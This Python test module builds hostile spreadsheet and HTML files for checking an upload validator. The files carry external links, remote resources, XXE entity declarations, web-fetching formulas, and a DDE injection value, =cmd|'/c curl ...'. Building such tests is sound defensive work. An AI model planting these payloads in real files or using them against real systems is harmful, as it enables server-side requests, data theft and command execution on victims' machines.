"""Files that would have somebody's server asked: by links, pictures, connections, formulas, entities and templates."""

from __future__ import annotations

import struct
from collections.abc import Callable, Mapping
from io import BytesIO
from typing import Any
from zipfile import ZipFile

from tests.hostile.archive import Entry, zipped
from tests.hostile.case import Case, accepted, either, rejected, warned
from tests.hostile.elsewhere import ADDRESS, SHARE, URL
from tests.hostile.others import csv_text, ods, ods_cell, ods_content, ods_rows, page, xls, xlsb
from tests.hostile.workbook import (
    BOOK,
    BOOK_RELATIONS,
    DECLARED,
    MAIN,
    OFFICE,
    PACKAGE,
    SHEET,
    book_part,
    formula,
    parts,
    relation,
    relations,
    sheet,
    text,
    with_cells,
    with_sheet,
    xlsx,
)

_DAMAGED = "FILE_DAMAGED"
_OUTSIDE = ' TargetMode="External"'
_RELS = "xl/_rels/workbook.xml.rels"
_SHEET_RELS = "xl/worksheets/_rels/sheet1.xml.rels"
_ODS, _XLS, _XLSB, _CSV, _PAGE = ({"file": f"Report.{kind}"} for kind in ("ods", "xls", "xlsb", "csv", "html"))
_XLINK = 'xmlns:xlink="http://www.w3.org/1999/xlink" xlink:type="simple" xlink:actuate="onLoad" xlink:href'
_ENTITIES = {
    "dtd": f'<!DOCTYPE x SYSTEM "{URL}/x.dtd">',
    "public": f'<!DOCTYPE x PUBLIC "-//X//X//EN" "{URL}/x.dtd">',
    "parameter": f'<!DOCTYPE x [<!ENTITY % p SYSTEM "{URL}/p">%p;]>',
    "general": f'<!DOCTYPE x [<!ENTITY e SYSTEM "{URL}/e">]>',
    "share": f'<!DOCTYPE x [<!ENTITY % p SYSTEM "file:////{ADDRESS}/p">%p;]>',
    "all": f'<!DOCTYPE x SYSTEM "{URL}/x.dtd" [<!ENTITY e SYSTEM "{URL}/e"><!ENTITY % p SYSTEM "{URL}/p">%p;]>',
}
_MORE_PARTS = {
    "docProps/core.xml": "<coreProperties/>",
    "xl/comments1.xml": f'<comments xmlns="{MAIN}"/>',
    "xl/drawings/drawing1.xml": "<wsDr/>",
    "xl/theme/theme1.xml": "<theme/>",
}


def _out(kind: str, target: str = f"{URL}/x", rid: str = "rId1") -> str:
    """Write a relation that leads outside."""
    return relation(rid, kind, target, _OUTSIDE)


def _beside(after: str, *lines: str, before: str = "", **more: str) -> bytes:
    """Give the workbook with something behind its rows, and the relations of its sheet; more parts by name, / as __."""
    named = {n.replace("__", "/") + ".xml": p for n, p in more.items()}
    return xlsx({SHEET: sheet(before=before, after=after), _SHEET_RELS: relations(*lines), **named})


def _linked(content: str, *lines: str) -> bytes:
    """Let C6 be taken from what an external part links to."""
    return xlsx(
        {
            SHEET: sheet(C6=formula("C6", "[1]Other!$A$1", "12345")),
            BOOK: book_part(after='<externalReferences><externalReference r:id="rId8"/></externalReferences>'),
            _RELS: relations(*BOOK_RELATIONS, relation("rId8", "externalLink", "externalLinks/externalLink1.xml")),
            "xl/externalLinks/externalLink1.xml": f'<externalLink xmlns="{MAIN}" xmlns:r="{OFFICE}">{content}</externalLink>',
            "xl/externalLinks/_rels/externalLink1.xml.rels": relations(*lines),
        }
    )


def _pictured() -> bytes:
    """Let a drawing show a picture that stands elsewhere."""
    blip = f'<wsDr xmlns:a="urn:a" xmlns:r="{OFFICE}"><a:blip r:link="rId1"/></wsDr>'
    return xlsx(
        {
            SHEET: sheet(after='<drawing r:id="rId1"/>'),
            _SHEET_RELS: relations(relation("rId1", "drawing", "../drawings/drawing1.xml")),
            "xl/drawings/drawing1.xml": DECLARED + blip,
            "xl/drawings/_rels/drawing1.xml.rels": relations(_out("image", f"{URL}/i.png")),
        }
    )


def _queried() -> bytes:
    """Let a table be filled from the web when the workbook is opened."""
    connection = (
        f'<connections xmlns="{MAIN}"><connection id="1" name="Web" type="4" refreshOnLoad="1" refreshedVersion="4">'
        f'<webPr url="{URL}/q" sourceData="1" htmlTables="1"/></connection><connection id="2" type="5" odcFile="{URL}/c.odc">'
        f'<dbPr connection="Provider=SQLOLEDB;Data Source={ADDRESS}" command="select 1"/></connection></connections>'
    )
    return xlsx(
        {
            _RELS: relations(*BOOK_RELATIONS, relation("rId8", "connections", "connections.xml")),
            _SHEET_RELS: relations(relation("rId1", "queryTable", "../queryTables/queryTable1.xml")),
            "xl/connections.xml": connection,
            "xl/queryTables/queryTable1.xml": f'<queryTable xmlns="{MAIN}" name="Web" connectionId="1" refreshOnLoad="1"/>',
        }
    )


def _pivoted() -> bytes:
    source = f'<cacheSource type="worksheet"><worksheetSource xmlns:r="{OFFICE}" r:id="rId1" sheet="Other" ref="A1:B2"/></cacheSource>'
    return xlsx(
        {
            BOOK: book_part(after='<pivotCaches><pivotCache cacheId="1" r:id="rId8"/></pivotCaches>'),
            _RELS: relations(*BOOK_RELATIONS, relation("rId8", "pivotCacheDefinition", "pivotCache/p1.xml")),
            "xl/pivotCache/p1.xml": f'<pivotCacheDefinition xmlns="{MAIN}" refreshOnLoad="1">{source}</pivotCacheDefinition>',
            "xl/pivotCache/_rels/p1.xml.rels": relations(_out("externalLinkPath", f"{URL}/b.xlsx")),
        }
    )


def _mapped() -> bytes:
    schema = f'<MapInfo xmlns="{MAIN}"><Schema ID="s" SchemaRef="{URL}/s.xsd"/><Map ID="1" SchemaID="s"><DataBinding FileBinding="true" DataBindingLoadMode="1" FileBindingName="{URL}/d.xml"/></Map></MapInfo>'
    custom = f'<a xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:noNamespaceSchemaLocation="{URL}/a.xsd"/>'
    return xlsx({"xl/xmlMaps.xml": schema, "customXml/item1.xml": custom})


def _rooted() -> bytes:
    """Let the package itself have a thumbnail, properties and a signature elsewhere."""
    more = (_out(kind, f"{URL}/{kind}", f"rId{n}") for n, kind in enumerate(("extended-properties", "thumbnail"), 5))
    signed = f'<Relationship Id="rId9" Type="{PACKAGE}/digital-signature/origin" Target="{URL}/sign"{_OUTSIDE}/>'
    return xlsx({"_rels/.rels": relations(relation("rId1", "officeDocument", BOOK), *more, signed)})


def _elsewhere(kind: str) -> bytes:
    """Let one of the workbook's own parts stand elsewhere."""
    kept = [line for line in BOOK_RELATIONS if f"/{kind}" not in line]
    return xlsx({_RELS: relations(*kept, _out(kind, f"{URL}/{kind}.xml", "rId2" if kind == "styles" else "rId3"))})


def _declaring(part: str, entity: str, encoding: str = "utf-8") -> bytes:
    """Let a part declare a document type with something that stands elsewhere, and use it where it is a text."""
    told = {**{n: p.decode() for n, p in parts().items()}, **_MORE_PARTS}
    words = (
        told[part]
        .removeprefix(DECLARED)
        .replace("Northfield", "North&e;field" if entity in {"general", "all"} else "Northfield")
    )
    marked = f'<?xml version="1.0" encoding="{encoding}"?>{_ENTITIES[entity]}{words}'
    return xlsx({**(_MORE_PARTS if part in _MORE_PARTS else {}), part: marked.encode(encoding)})


def _with_parts(data: bytes, changed: Mapping[str, Callable[[str], str]]) -> bytes:
    """Give a package of which some parts are written otherwise, or added."""
    with ZipFile(BytesIO(data)) as package:
        stored = {name: package.read(name) for name in package.namelist()}
    stored |= {n: change(stored.get(n, b"").decode()).encode() for n, change in changed.items()}
    return zipped(Entry(name, content) for name, content in stored.items())


def _ods_with(before: str = "", head: str = "", **cells: str) -> bytes:
    content = ods_content(ods_rows(**cells), before)
    return ods(content.replace("<office:body>", f"{head}<office:body>", 1))


def _ods_part(name: str, content: str) -> bytes:
    return _with_parts(ods(), {name: lambda _: DECLARED + content})


def _ods_declaring(name: str, entity: str) -> bytes:
    return _with_parts(ods(), {name: lambda was: DECLARED + _ENTITIES[entity] + was.removeprefix(DECLARED)})


def _xls_linked(_: Any, written: Any) -> None:
    """Write a formula that links, and a link on the district as its own record."""
    import xlwt

    written.write(8, 4, xlwt.Formula(f'HYPERLINK("{URL}/x";"more")'))
    stored = written.get_biff_data
    guids = ("d0c9ea79f9bace118c8200aa004ba90b", "e0c9ea79f9bace118c8200aa004ba90b")
    url = f"{URL}/x\0".encode("utf-16-le")
    link = (
        struct.pack("<4H16s2L16sL", 5, 5, 0, 0, bytes.fromhex(guids[0]), 2, 3, bytes.fromhex(guids[1]), len(url)) + url
    )
    told = struct.pack("<2H", 0x01B8, len(link)) + link
    written.get_biff_data = lambda: stored()[:-4] + told + stored()[-4:]


def _xlsb_linked() -> bytes:
    return _with_parts(
        xlsb(),
        {
            "xl/worksheets/_rels/sheet1.bin.rels": lambda _: relations(_out("hyperlink"), _out("image", rid="rId2")),
            "xl/_rels/workbook.bin.rels": lambda was: was.replace("</", f"{_out('externalLinkPath', rid='rId8')}</"),
        },
    )


_WEB_FORMULAS = (
    f'WEBSERVICE("{URL}/"&C6)', f'IMAGE("{URL}/i.png")', f'RTD("x","{ADDRESS}","y")', f"'{URL}/[b.xlsx]Other'!A1",
    f'FILTERXML(WEBSERVICE("{URL}"),"//a")', f"'{SHARE}\\[b.xlsx]Other'!A1",
)  # fmt: skip
_IN_TEXT = (
    f'=WEBSERVICE("{URL}/")', f'=HYPERLINK("{URL}/","x")', f'=IMPORTXML("{URL}/","//a")', f'=IMAGE("{URL}/i.png")',
    f"{SHARE}\\x.xlsx", f"file://{ADDRESS}/x", f"{URL}/x", f"=cmd|'/c curl {URL}'!A0", f"![x]({URL}/i.png)",
)  # fmt: skip
_ON_PAGE = {
    "base": f'<base href="{URL}/"><link rel="stylesheet" href="a.css">',
    "link": f'<link rel="stylesheet" href="{URL}/a.css"><link rel="preload" as="image" href="{URL}/i"><link rel="File-List" href="{URL}/f.xml">',
    "script": f'<script src="{URL}/a.js"></script><script>fetch("{URL}/")</script>',
    "style": f'<style>@import url("{URL}/a.css"); td {{ background: url({URL}/i.png) }}</style>',
    "refresh": f'<meta http-equiv="refresh" content="0;url={URL}/">',
    "csp": f'<meta http-equiv="Content-Security-Policy" content="default-src *; report-uri {URL}/r">',
    "image": f'<img src="{URL}/i.png" srcset="{URL}/j.png 2x"><svg><image xlink:href="{URL}/k.png"/></svg>',
    "frame": f'<iframe src="{URL}/"></iframe><object data="{URL}/o"></object><embed src="{URL}/e">',
    "media": f'<video src="{URL}/v" poster="{URL}/p" autoplay></video><audio src="{URL}/a"></audio>',
    "xml": f'<xml><x:ExcelWorkbook><x:WorksheetSource HRef="{URL}/s.htm"/></x:ExcelWorkbook></xml>',
}


CASES: tuple[Case, ...] = (
    warned("link_workbook", "a figure from a workbook on the web", "CELL_LINKED", lambda: _linked('<externalBook r:id="rId1"/>', _out("externalLinkPath", f"{URL}/b.xlsx"))),
    warned("link_dde", "a figure that another program tells", "", lambda: _linked(f'<ddeLink ddeService="{ADDRESS}" ddeTopic="x"><ddeItems><ddeItem name="y" advise="1"/></ddeItems></ddeLink>')),
    warned("link_ole", "a figure from an object on a share", "", lambda: _linked('<oleLink r:id="rId1" progId="Excel.Sheet"><oleItems><oleItem name="x" advise="1"/></oleItems></oleLink>', _out("oleObject", f"file:///{SHARE}\\b.xlsx"))),
    accepted("link_picture", "a drawing that shows a picture on the web", _pictured),
    accepted("link_background", "a background on the web", lambda: _beside('<picture r:id="rId1"/>', _out("image", f"{URL}/i.png"))),
    accepted("link_header_picture", "a picture on the web in the page's header", lambda: _beside('<legacyDrawingHF r:id="rId1"/>', _out("vmlDrawing", f"{URL}/v.vml"))),
    accepted("link_comments", "comments on the web", lambda: _beside('<legacyDrawing r:id="rId1"/>', _out("vmlDrawing"), _out("comments", rid="rId2"))),
    accepted("link_hyperlinks", "the district and the figure are links", lambda: _beside(f'<hyperlinks><hyperlink ref="A6" r:id="rId1"/><hyperlink ref="C6" r:id="rId2" location="{URL}"/></hyperlinks>', _out("hyperlink"), _out("hyperlink", f"file:///{SHARE}", "rId2"))),
    accepted("link_hyperlink_formula", "the district is a formula that links", lambda: with_cells(A6=formula("A6", f'HYPERLINK("{URL}","Northfield")', "Northfield", "str"))),
    accepted("link_query", "a table that is filled from the web when it is opened", _queried),
    accepted("link_pivot", "a pivot table of a workbook on the web", _pivoted),
    accepted("link_published", "a sheet that is published to the web when it is saved", lambda: _beside(f'<webPublishItems count="1"><webPublishItem id="1" divId="x" sourceType="sheet" destinationFile="{URL}/p.htm" autoRepublish="1"/></webPublishItems>')),
    accepted("link_object", "an object that is fetched when it is opened", lambda: _beside('<oleObjects><oleObject progId="Package" oleUpdate="OLEUPDATE_ALWAYS" r:id="rId1" shapeId="1"/></oleObjects>', _out("oleObject", f"{URL}/o.xlsx"))),
    accepted("link_control", "a control that loads a page", lambda: _beside('<controls><control shapeId="1" r:id="rId1"/></controls>', _out("control"))),
    accepted("link_printer", "settings of a printer on the web", lambda: _beside('<pageSetup r:id="rId1"/>', _out("printerSettings"))),
    accepted("link_maps", "a schema and data on the web", _mapped),
    accepted("link_template", "a template and a task pane on the web", lambda: _beside("", _out("attachedTemplate", f"{URL}/t.xltx"), _out("webextension", f"{URL}/w", "rId2"))),
    accepted("link_package", "properties, a thumbnail and a signature on the web", _rooted),
    accepted("link_stylesheet", "a sheet that names a stylesheet", lambda: with_sheet(sheet().replace("<worksheet", f'<?xml-stylesheet type="text/xsl" href="{URL}/x.xsl"?><worksheet', 1))),
    accepted("link_schema", "a sheet that names its schema", lambda: with_sheet(sheet(about=f' xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="{MAIN} {URL}/x.xsd" xml:base="{URL}/"'))),
    either("link_xinclude", "a sheet that includes rows from the web", _DAMAGED, lambda: with_sheet(sheet(after=f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{URL}/x.xml"/>'))),
    either("link_formulas", "formulas that ask somebody's server", "", lambda: with_cells(**{f"E{n}": formula(f"E{n}", f, "x", "str") for n, f in enumerate(_WEB_FORMULAS, 9)})),
    rejected("link_elsewhere_strings", "the workbook's texts are on the web", _DAMAGED, lambda: _elsewhere("sharedStrings")),
    accepted("link_elsewhere_styles", "the workbook's styles are on the web", lambda: _elsewhere("styles")),
    *(either(f"link_all_{n:02}", f"{part} declares what stands elsewhere", f"{_DAMAGED} FILE_TYPE", lambda part=part: _declaring(part, "all")) for n, part in enumerate((*parts(), *_MORE_PARTS))),
    *(rejected(f"link_{entity}", f"a sheet declares what stands elsewhere ({entity})", _DAMAGED, lambda entity=entity: _declaring(SHEET, entity)) for entity in _ENTITIES),
    rejected("link_utf16", "a sheet in UTF-16 declares what stands elsewhere", _DAMAGED, lambda: _declaring(SHEET, "all", "utf-16")),
    accepted("link_ods_picture", "a picture on the web", lambda: _ods_with(f'<table:shapes><draw:frame xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0"><draw:image {_XLINK}="{URL}/i.png"/></draw:frame></table:shapes>'), **_ODS),
    accepted("link_ods_text", "the district is a link", lambda: _ods_with(A6=f'<table:table-cell office:value-type="string"><text:p><text:a {_XLINK}="{URL}/x">Northfield</text:a></text:p></table:table-cell>'), **_ODS),
    either("link_ods_sheet", "a sheet that is taken from the web", "", lambda: _ods_with(f'<table:table-source {_XLINK}="{URL}/x.ods" table:refresh-delay="PT1S"/>'), **_ODS),
    either("link_ods_range", "a figure that is taken from the web", "", lambda: _ods_with(C6=ods_cell(12345).replace("<text:p>", f'<table:cell-range-source table:name="x" {_XLINK}="{URL}/x.ods"/><text:p>')), **_ODS),
    either("link_ods_formula", "formulas that ask somebody's server", "", lambda: _ods_with(C6=ods_cell(12345, f" table:formula=\"of:=WEBSERVICE(&quot;{URL}&quot;)+'{URL}/x.ods'#$A.B1\"")), **_ODS),
    accepted("link_ods_script", "a script on the web that runs when it is opened", lambda: _ods_with(head=f'<office:scripts><office:event-listeners><script:event-listener xmlns:script="urn:x" script:event-name="dom:load" {_XLINK}="{URL}/s"/></office:event-listeners></office:scripts>'), **_ODS),
    accepted("link_ods_template", "a template on the web, and a page to load anew", lambda: _ods_part("meta.xml", f'<office:document-meta xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:meta="urn:m"><office:meta><meta:template {_XLINK}="{URL}/t.ots"/><meta:auto-reload {_XLINK}="{URL}/"/></office:meta></office:document-meta>'), **_ODS),
    accepted("link_ods_style", "a background on the web", lambda: _ods_part("styles.xml", f'<office:document-styles xmlns:office="urn:o" xmlns:style="urn:s"><style:background-image {_XLINK}="{URL}/i.png"/></office:document-styles>'), **_ODS),
    rejected("link_ods_content", "its content declares what stands elsewhere", _DAMAGED, lambda: _ods_declaring("content.xml", "all"), **_ODS),
    either("link_ods_manifest", "its list of parts declares what stands elsewhere", f"{_DAMAGED} FILE_TYPE FILE_PASSWORD", lambda: _ods_declaring("META-INF/manifest.xml", "all"), **_ODS),
    accepted("link_xls", "a link on the district, and a formula that links", lambda: xls(_xls_linked), others=frozenset({"7", "3", "678", "0"}), **_XLS),
    accepted("link_xlsb", "links, a picture and a workbook on the web", _xlsb_linked, **_XLSB),
    either("link_csv", "texts that ask somebody's server", "", lambda: csv_text(**{f"A{n}": words for n, words in enumerate(_IN_TEXT, 9)}), **_CSV),
    *(either(f"link_label_{n}", "a district that asks somebody's server", "", lambda words=words: with_cells(A6=text("A6", words)), label=None) for n, words in enumerate(_IN_TEXT) if n in {1, 4, 7, 8}),
    *(accepted(f"link_page_{name}", f"a page that fetches: {name}", lambda words=words: page(before=words), **_PAGE) for name, words in {**{n: _ON_PAGE[n] for n in ("base", "csp")}, "all": "".join(_ON_PAGE.values())}.items()),
    either("link_page_as_xls", "a page named .xls that fetches in every way", "", lambda: page(f"<td>12345{''.join(_ON_PAGE.values())}</td>", before="".join(_ON_PAGE.values())), file="Report.xls"),
    either("link_page_doctype", "a page whose document type stands elsewhere", _DAMAGED, lambda: f'<!DOCTYPE html SYSTEM "{URL}/x.dtd" [<!ENTITY % p SYSTEM "{URL}/p">%p;]>' + page(), **_PAGE),
    either("link_page_xhtml", "a page in XML whose document type stands elsewhere", _DAMAGED, lambda: f'{DECLARED}<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "{URL}/x.dtd">' + page(), **_PAGE),
    rejected("link_page_frames", "a page whose sheets stand elsewhere", "FILE_TYPE", lambda: f'<html><frameset><frame src="{URL}/sheet001.htm"></frameset></html>', **_PAGE),
)  # fmt: skip
